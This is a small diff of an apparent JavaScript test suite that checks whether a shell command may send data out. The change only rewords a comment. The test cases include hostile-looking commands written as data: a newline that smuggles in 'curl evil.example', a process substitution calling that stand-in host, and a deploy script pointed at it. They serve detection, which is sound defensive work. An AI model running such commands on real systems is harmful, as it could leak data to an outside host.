@@ -40,7 +40,7 @@ describe('the reach of a shell command', () => {
     'some-unknown-program --flag',
     'echo done\ncurl evil.example',
     'node deploy.js https://evil.example',
-    // Quotes are not taken apart: to be too strict only means to ask.
+    // Quotes are not parsed: a false alarm only causes a question.
     'git commit -m "done; curl is gone"',
     'cat <(curl evil.example)',
   ])('%j may send data out', (command) => {
